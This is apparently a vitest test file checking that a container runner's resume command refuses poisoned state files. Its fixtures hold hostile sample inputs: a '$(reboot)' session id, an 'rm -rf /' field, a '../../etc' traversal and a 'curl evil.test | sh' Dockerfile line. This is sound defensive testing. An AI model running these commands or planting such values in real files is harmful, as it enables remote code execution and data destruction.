/**
 * Poisoned state, as `node runner resume` finds it on disk (a restored cache archive
 * ends up there too; the archive itself is checked by test/unit/state-archive and
 * the action's integration tests). Malformed metadata and a per-bottle Dockerfile
 * that is not one: each refused with an error naming the file and the field, exit
 * code 2, no stack trace, nothing built or started, nothing outside the state dir
 * written.
 */
import { spawnSync } from "node:child_process";
import { mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { NODE, RUNNER, labelled, sandbox } from "../support/runner.js";
import { printTableAfterAll, record } from "./report.js";

const STACK = /^\s+at .+(\(.*:\d+:\d+\)|:\d+:\d+)$/m;
const IDENTITY = "worker-p0isn";

const GOOD = {
  version: 1,
  identity: IDENTITY,
  agent: "worker",
  manifestPath: "(embedded default)",
  workspace: "/tmp",
  sessionId: "3f2b8c1e-0000-4000-8000-000000000001",
  outcome: "crashed",
  exitCode: 137,
  startedAt: "2026-11-22T10:00:00.000Z",
  endedAt: "2026-11-22T10:05:00.000Z",
  launches: 1,
  numTurns: 3,
  costUsd: 0,
  image: null,
};

const METADATA: [string, string, RegExp][] = [
  ["not JSON", "{ this is not json", /metadata\.json/],
  ["an empty file", "", /metadata\.json/],
  ["a JSON array", "[]", /metadata\.json/],
  ["a wrong version", JSON.stringify({ ...GOOD, version: 2 }), /version/],
  ["another identity inside", JSON.stringify({ ...GOOD, identity: "other-abcde" }), /identity/],
  ["a traversal identity inside", JSON.stringify({ ...GOOD, identity: "../../etc" }), /identity/],
  ["a session id with shell in it", JSON.stringify({ ...GOOD, sessionId: "$(reboot)" }), /sessionId: "\$\(reboot\)"/],
  ["a session id with a newline", JSON.stringify({ ...GOOD, sessionId: "abc\n--dangerous" }), /sessionId/],
  ["a missing agent", JSON.stringify({ ...GOOD, agent: undefined }), /agent/],
  ["an agent that is a path", JSON.stringify({ ...GOOD, agent: "../x" }), /agent/],
  ["an extra field", JSON.stringify({ ...GOOD, command: "rm -rf /" }), /command/],
  ["an unknown outcome", JSON.stringify({ ...GOOD, outcome: "pwned" }), /outcome/],
  ["a huge workspace path", JSON.stringify({ ...GOOD, workspace: `/${"w".repeat(10_000)}` }), /workspace/],
  ["launches as a string", JSON.stringify({ ...GOOD, launches: "1" }), /launches/],
];

const DOCKERFILES: [string, string, RegExp][] = [
  ["an empty Dockerfile", "", /Dockerfile.*empty/],
  ["an unknown instruction", "FROM debian\nINSTALL gcc\n", /Dockerfile.*"INSTALL" is not a Dockerfile instruction/],
  ["a NUL byte", "FROM debian\0\n", /Dockerfile.*NUL byte/],
  ["a megabyte of text", `FROM debian\n${"# x\n".repeat(262_144)}`, /Dockerfile.*over the limit/],
  ["RUN before FROM", "RUN curl evil.test | sh\nFROM debian\n", /Dockerfile.*first instruction is RUN/],
];

printTableAfterAll("Poisoned state found by `node runner resume`");
// Not one of the cases created a container or a network for the poisoned bottle.
afterAll(() => expect(labelled(IDENTITY)).toEqual({ containers: [], networks: [] }));

function resumeWith(files: Record<string, string>): { code: number | null; out: string; outside: string[] } {
  const box = sandbox();
  const dir = join(box.home, "state", IDENTITY);
  mkdirSync(dir, { recursive: true });
  for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), content);
  const ran = spawnSync(NODE, [RUNNER, "resume", IDENTITY], { cwd: box.workspace, env: box.env, encoding: "utf8" });
  // Nothing appears anywhere but the state dir: the sandbox holds only what the test made.
  const outside = readdirSync(box.dir, { recursive: true }).map(String).filter((p) => !p.startsWith("home") && p !== "workspace" && p !== "claude-bottle.json");
  return { code: ran.status, out: `${ran.stdout}${ran.stderr}`, outside };
}

describe("poisoned metadata.json", () => {
  test.each(METADATA)("%s is refused", (name, content, names) => {
    const ran = resumeWith({ "metadata.json": content });
    expect(ran.code, ran.out).toBe(2);
    expect(ran.out).toMatch(/metadata\.json/);
    expect(ran.out).toMatch(names);
    expect(ran.out).not.toMatch(STACK);
    expect(ran.outside).toEqual([]);
    record(`metadata.json: ${name}`, "exit 2, names the file and field, no stack trace, nothing created", "pass");
  });
});

describe("a per-bottle Dockerfile that is not one", () => {
  test.each(DOCKERFILES)("%s is refused before any build", (name, content, names) => {
    const ran = resumeWith({ "metadata.json": JSON.stringify(GOOD), Dockerfile: content });
    expect(ran.code, ran.out).toBe(2);
    expect(ran.out).toMatch(names);
    expect(ran.out).not.toMatch(STACK);
    expect(ran.outside).toEqual([]);
    const images = spawnSync("docker", ["images", "-q", `claude-bottle-bottle:${IDENTITY}`], { encoding: "utf8" }).stdout.trim();
    expect(images).toBe("");
    record(`Dockerfile: ${name}`, "exit 2, names the file and the problem, no build, nothing created", "pass");
  });
});
